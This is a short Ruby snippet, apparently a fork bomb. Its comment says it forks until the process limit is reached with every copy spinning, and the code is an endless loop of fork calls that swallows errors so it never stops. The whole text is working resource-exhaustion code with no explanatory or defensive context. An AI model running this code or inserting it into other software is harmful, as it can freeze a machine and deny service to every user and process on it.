# Forks until the process limit, every copy spinning.
loop do
  begin
    fork
  rescue StandardError
    nil
  end
end
